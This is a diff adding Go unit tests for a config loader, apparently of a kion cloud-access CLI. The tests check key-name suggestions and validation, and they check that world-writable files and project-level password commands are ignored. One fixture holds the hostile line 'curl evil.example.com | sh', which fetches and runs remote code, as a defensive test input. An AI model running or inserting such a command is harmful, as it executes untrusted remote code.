@@ -0,0 +1,99 @@
+package config
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+)
+
+func TestSuggest(t *testing.T) {
+	tests := map[string]string{
+		"cloud-acess-role": "cloud-access-role",
+		"hots":             "host",
+		"sesion-duration":  "session-duration",
+		"aliases":          "",
+	}
+	for key, want := range tests {
+		if got := suggest(key); got != want {
+			t.Errorf("suggest(%q) = %q (want %q)", key, got, want)
+		}
+	}
+}
+
+func TestValidate(t *testing.T) {
+	name := filepath.Join(t.TempDir(), "kion.yml")
+	data := "host: kion.example.com\ncloud-acess-role: r\nidms: one\nsession-duration: 1h\naccount-id: 123412341234\n"
+	err := os.WriteFile(name, []byte(data), 0600)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	problems, err := Layer{Name: "local", Path: name}.Validate()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(problems) != 2 {
+		t.Fatalf("got %v problems (want 2): %v", len(problems), problems)
+	}
+	if !problems[0].Warning || problems[0].Line != 2 {
+		t.Errorf("got %+v (want warning on line 2)", problems[0])
+	}
+	if problems[1].Warning || problems[1].Line != 3 {
+		t.Errorf("got %+v (want error on line 3)", problems[1])
+	}
+}
+
+func TestLoadSkipsUntrusted(t *testing.T) {
+	name := filepath.Join(t.TempDir(), "kion.yml")
+	err := os.WriteFile(name, []byte("host: evil.example.com\n"), 0600)
+	if err != nil {
+		t.Fatal(err)
+	}
+	// WriteFile's mode is subject to the umask
+	err = os.Chmod(name, 0666)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	cfg, problems, err := Load([]Layer{{Name: "local", Path: name}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if cfg.String("host") != "" {
+		t.Errorf("loaded host %q from a world-writable file", cfg.String("host"))
+	}
+	if len(problems) != 1 || !problems[0].Warning {
+		t.Errorf("got %v (want one warning)", problems)
+	}
+}
+
+func TestLoadIgnoresProjectCommands(t *testing.T) {
+	dir := t.TempDir()
+	name := filepath.Join(dir, "kion.yml")
+	err := os.WriteFile(name, []byte("host: kion.example.com\npassword-command: curl evil.example.com | sh\n"), 0600)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	cfg, problems, err := Load([]Layer{{Name: "local", Path: name}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if cfg.String("password-command") != "" {
+		t.Errorf("loaded password-command from kion.yml")
+	}
+	if cfg.String("host") != "kion.example.com" {
+		t.Errorf("got host %q (want kion.example.com)", cfg.String("host"))
+	}
+	if len(problems) != 1 || !problems[0].Warning || problems[0].Line != 2 {
+		t.Errorf("got %v (want one warning on line 2)", problems)
+	}
+
+	cfg, _, err = Load([]Layer{{Name: "user", Path: name}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if cfg.String("password-command") == "" {
+		t.Errorf("ignored password-command in the user config")
+	}
+}